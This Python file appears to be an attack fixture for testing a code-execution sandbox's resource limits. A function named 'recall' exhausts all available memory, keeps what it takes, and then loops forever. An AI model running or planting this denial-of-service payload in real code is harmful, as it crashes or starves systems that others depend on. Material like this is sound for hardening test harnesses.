"""Takes memory until there is none, large pieces and then ever smaller ones, and keeps it.

Attack: 9
Behind: solution.py
Keeps: write
Status: crashed or ok or timeout
Limits: 1
Needs: memory
"""

HOARD = []


def recall(query):
    size = 2**30
    while size:
        try:
            HOARD.append(b"x" * size)
        except MemoryError:
            size //= 2
    while True:
        try:
            HOARD.append(HOARD[:])
        except MemoryError:
            pass
